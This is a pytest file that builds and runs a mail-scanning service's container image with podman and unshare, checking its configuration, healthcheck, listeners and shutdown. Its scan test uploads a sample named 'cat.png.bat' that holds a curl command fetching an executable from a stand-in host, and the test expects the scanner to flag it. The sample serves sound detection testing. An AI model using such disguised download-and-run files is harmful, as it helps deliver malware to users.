"""The container image (deploy/container/Containerfile), built with podman and started from its filesystem.

No image registry is reachable here and podman cannot run containers (its OCI runtime is refused
setrlimit), so: the base is made from Debian's packages with mmdebstrap and `podman import`ed (once: it
stays in podman's storage, named by a hash of how it was made), the image is built with
`podman build --isolation chroot`, and its filesystem (`podman image mount`) is started with `unshare`
in new mount, PID and network namespaces, as the image's user, with the image's environment, working
directory and command. Checked there: mailowl listens on 0.0.0.0 because the image says so, the image's
own HEALTHCHECK passes, a v1 scan is answered, the store is written to the /data volume, SIGTERM stops
mailowl running as PID 1.

Slow the first time (the base, and every dependency as a wheel), a minute or so once podman's layer cache
holds them. Skipped, saying so, only where podman is not installed (scripts/bootstrap --test installs it)
or the tests do not run as root (.ci/run on CI does).
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

ROOT = Path(__file__).parent.parent
CONTAINERFILE = ROOT / "deploy" / "container" / "Containerfile"
IGNOREFILE = ROOT / "deploy" / "container" / "Containerfile.dockerignore"
IMAGE = "localhost/mailowl-test:latest"
BUILD_STAGE = "localhost/mailowl-test:build"
SUITE = "bookworm"
MIRRORS = [f"deb http://deb.debian.org/debian {SUITE} main",
           f"deb http://deb.debian.org/debian {SUITE}-updates main",
           f"deb http://deb.debian.org/debian-security {SUITE}-security main"]
# the machine's own certificate authorities (a TLS-inspecting proxy's, say) go into the base, as a site's
# base image would carry them: pip in the build then trusts what this machine trusts
LOCAL_CAS = sorted(Path("/usr/local/share/ca-certificates").glob("*.crt"))

pytestmark = [
    pytest.mark.skipif(shutil.which("podman") is None,
                       reason="podman is not installed (scripts/bootstrap --test installs it): "
                              "the container image cannot be built here"),
    pytest.mark.skipif(os.geteuid() != 0,
                       reason="not root: the image is built with rootful podman and its filesystem started "
                              "with unshare and mount, which need root"),
]


def _run(args: list[str], timeout: float = 1800, log: Path | None = None, **kwargs: Any) -> str:
    proc = subprocess.run(args, capture_output=True, text=True, timeout=timeout, **kwargs)
    if log is not None:
        with log.open("a") as out:
            out.write(f"$ {' '.join(args)}\n{proc.stdout}{proc.stderr}\n")
    assert proc.returncode == 0, f"{' '.join(args)}: exit {proc.returncode}\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
    return proc.stdout


def base_image(tmp: Path, log: Path) -> str:
    """Debian's minbase, from Debian's packages; made only when podman's storage does not hold it yet."""
    recipe = ["mmdebstrap", "--variant=minbase", "--format=tar", "--components=main"]
    digest = hashlib.sha256(json.dumps([recipe, MIRRORS]).encode())
    if LOCAL_CAS:
        recipe.append('--customize-hook=mkdir -p "$1/usr/local/share/ca-certificates"')
    for ca in LOCAL_CAS:
        recipe.append(f"--customize-hook=copy-in {ca} /usr/local/share/ca-certificates")
        digest.update(ca.read_bytes())
    name = f"localhost/mailowl-test-base:{SUITE}-{digest.hexdigest()[:12]}"
    if subprocess.run(["podman", "image", "exists", name]).returncode == 0:
        return name
    if shutil.which("mmdebstrap") is None:
        pytest.fail("mmdebstrap is missing: scripts/bootstrap --test installs it")
    tar = tmp / "base.tar"
    _run([*recipe, SUITE, str(tar), *MIRRORS], log=log)
    _run(["podman", "import", "--quiet", str(tar), name], log=log)
    tar.unlink()
    return name


def _image_id(name: str) -> str | None:
    proc = subprocess.run(["podman", "image", "inspect", "--format", "{{.Id}}", name], capture_output=True, text=True)
    return proc.stdout.strip() if proc.returncode == 0 else None


def build(base: str, tag: str, log: Path, target: str | None = None) -> None:
    """podman build, then away with the image this one replaces and its layers that no other image uses
    (so repeated runs leave one image of each tag, and the cached layers they share)."""
    before = _image_id(tag)
    _run(["podman", "build", "--isolation", "chroot", "--format", "docker", "--layers",
          "--build-arg", f"BASE={base}", "--file", str(CONTAINERFILE), "--ignorefile", str(IGNOREFILE),
          *(["--target", target] if target else []), "--tag", tag, str(ROOT)], log=log)
    if before and before != _image_id(tag):
        subprocess.run(["podman", "rmi", before], capture_output=True)


@pytest.fixture(scope="module")
def image(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    tmp = tmp_path_factory.mktemp("image")
    log = tmp / "build.log"
    started = time.monotonic()
    base = base_image(tmp, log)
    based = time.monotonic()
    # the first stage tagged too: its layers (every dependency as a wheel) stay cached from run to run
    build(base, BUILD_STAGE, log, target="build")
    build(base, IMAGE, log)
    print(f"\nimage test: base {based - started:.0f} s, build {time.monotonic() - based:.0f} s", file=sys.stderr)
    (inspected,) = json.loads(_run(["podman", "image", "inspect", IMAGE]))
    yield inspected


def test_image_configuration(image: dict[str, Any]) -> None:
    config = image["Config"]
    env = dict(item.split("=", 1) for item in config["Env"])
    user = config["User"]
    assert user and user.split(":")[0] not in ("", "0", "root")
    assert "/data" in config["Volumes"] and config["WorkingDir"] == "/data"
    assert set(config["ExposedPorts"]) == {"8100/tcp", "8101/tcp"}
    assert env["MAILOWL_SERVER_LISTEN"] == "0.0.0.0:8100" and env["MAILOWL_MILTER_LISTEN"] == "0.0.0.0:8101"
    assert env["MAILOWL_SERVER_DATA_DIR"] == "/data"
    assert config["Entrypoint"] == ["/opt/mailowl/bin/mailowl"] and config["Cmd"] == ["serve"]
    assert image["Healthcheck"]["Test"][0] == "CMD"


def test_image_holds_this_checkout(image: dict[str, Any]) -> None:
    """The mailowl in the image is this checkout's, not a stale build cache's."""
    root = Path(_run(["podman", "image", "mount", IMAGE]).strip())
    try:
        (installed,) = root.glob("opt/mailowl/lib/python3*/site-packages/mailowl")
        stale = [str(path.relative_to(ROOT / "src")) for path in (ROOT / "src" / "mailowl").rglob("*.py")
                 if "__pycache__" not in path.parts
                 and (installed / path.relative_to(ROOT / "src" / "mailowl")).read_bytes() != path.read_bytes()]
    finally:
        subprocess.run(["podman", "image", "unmount", IMAGE], capture_output=True)
    assert not stale, f"the image's copies differ from the checkout: {stale}"


class Started:
    """The image's filesystem running its command: mount, PID and network namespaces of its own."""

    def __init__(self, image: dict[str, Any], root: str, data: Path, log: Path) -> None:
        config = image["Config"]
        uid, _, gid = config["User"].partition(":")
        self.env = [*config["Env"], "HOME=/data"]
        self.root, self.uid, self.gid = root, uid, gid or uid
        script = (
            'set -e; root="$1"; shift\n'
            "ip link set lo up\n"
            'mount -t proc proc "$root/proc"\n'
            'mount --rbind /dev "$root/dev"\n'
            'mount -t tmpfs -o mode=1777 tmpfs "$root/dev/shm"\n'
            'mount -t tmpfs -o mode=1777 tmpfs "$root/tmp"\n'
            'mount --bind "$DATA" "$root/data"\n'
            'exec "$@"\n'
        )
        command = [*config["Entrypoint"], *config["Cmd"]]
        self.log = log.open("w")
        self.proc = subprocess.Popen(
            ["unshare", "--mount", "--pid", "--net", "--fork", "--propagation", "private",
             "sh", "-c", script, "sh", root, *self.inside(*command, workdir=config["WorkingDir"])],
            env={"DATA": str(data), "PATH": os.environ["PATH"]}, stdout=self.log, stderr=subprocess.STDOUT)

    def inside(self, *command: str, workdir: str = "/") -> list[str]:
        """A command run in the image's root as the image's user with the image's environment."""
        return ["unshare", f"--root={self.root}", f"--wd={workdir}", f"--setuid={self.uid}",
                f"--setgid={self.gid}", "env", "-i", *self.env, *command]

    def in_network(self, *command: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
        """A command in mailowl's network namespace (and nothing else of it)."""
        return subprocess.run(["nsenter", f"--target={self.proc.pid}", "--net", "--", *command],
                              capture_output=True, text=True, timeout=timeout)

    def mailowl_pid(self) -> int | None:
        """mailowl, PID 1 of its namespace, as this machine numbers it."""
        children = Path(f"/proc/{self.proc.pid}/task/{self.proc.pid}/children")
        try:
            pids = children.read_text().split()
        except OSError:
            return None
        return int(pids[0]) if pids else None

    def stop(self) -> int | None:
        pid = self.mailowl_pid()
        if pid is not None and self.proc.poll() is None:
            os.kill(pid, signal.SIGTERM)
        try:
            return self.proc.wait(60)
        except subprocess.TimeoutExpired:
            pid = self.mailowl_pid()
            if pid is not None:
                os.kill(pid, signal.SIGKILL)  # PID 1: the whole namespace goes with it
            self.proc.kill()
            self.proc.wait(30)
            return None
        finally:
            self.log.close()


CLIENT = r"""
import http.client, json, sys, time
port = int(sys.argv[1])
def request(method, path, body=None, headers={}):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    conn.request(method, path, body=body, headers=headers)
    response = conn.getresponse()
    return response.status, json.loads(response.read() or b"{}")
boundary = "mailowlimagetest"
body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"cat.png.bat\"\r\n"
        "Content-Type: application/octet-stream\r\n\r\n@echo off\r\ncurl http://x.invalid/a.exe\r\n\r\n"
        f"--{boundary}--\r\n").encode()
status, answer = request("POST", "/v1/scan", body, {"Content-Type": f"multipart/form-data; boundary={boundary}"})
assert status == 200, (status, answer)
deadline = time.monotonic() + 120
while True:
    status, report = request("GET", f"/v1/report/{answer['job_id']}")
    if status == 200 or time.monotonic() > deadline:
        break
    time.sleep(0.2)
print(json.dumps({"status": status, "report": report}))
"""


def _listening(started: Started) -> set[str]:
    """HOST:PORT of every listening TCP socket in mailowl's network namespace (from /proc/net/tcp)."""
    proc = started.in_network("cat", "/proc/net/tcp")
    out = set()
    for line in proc.stdout.splitlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        if state == "0A":
            address, port = local.split(":")
            host = ".".join(str(int(address[i:i + 2], 16)) for i in (6, 4, 2, 0))
            out.add(f"{host}:{int(port, 16)}")
    return out


def test_image_serves(image: dict[str, Any], tmp_path: Path) -> None:
    data = tmp_path / "data"  # the /data volume
    data.mkdir()
    uid = image["Config"]["User"].partition(":")[0]
    os.chown(data, int(uid), int(uid))
    root = _run(["podman", "image", "mount", IMAGE]).strip()
    started = None
    try:
        started = Started(image, root, data, tmp_path / "mailowl.log")
        healthcheck = image["Healthcheck"]["Test"][1:]  # ["CMD", ...]: run as the container engine would
        deadline = time.monotonic() + 120
        while True:
            check = started.in_network(*started.inside(*healthcheck))
            if check.returncode == 0:
                break
            if started.proc.poll() is not None or time.monotonic() > deadline:
                pytest.fail(f"never healthy ({check.stderr.strip()}): {(tmp_path / 'mailowl.log').read_text()}")
            time.sleep(0.5)
        # on every interface, because the image's MAILOWL_*_LISTEN say so (mailowl's default is loopback)
        assert {"0.0.0.0:8100", "0.0.0.0:8101"} <= _listening(started)
        scan = started.in_network(sys.executable, "-c", CLIENT, "8100")
        assert scan.returncode == 0, scan.stderr
        result = json.loads(scan.stdout)
        assert result["status"] == 200 and result["report"]["result"] == "bad", result
        # the store lives on the volume, written by the image's user
        assert (data / "mailowl.db").stat().st_uid == int(uid)
        assert started.stop() in (0, -signal.SIGTERM, 128 + signal.SIGTERM), (tmp_path / "mailowl.log").read_text()
    finally:
        if started is not None and started.proc.poll() is None:
            started.stop()
        subprocess.run(["podman", "image", "unmount", IMAGE], capture_output=True)
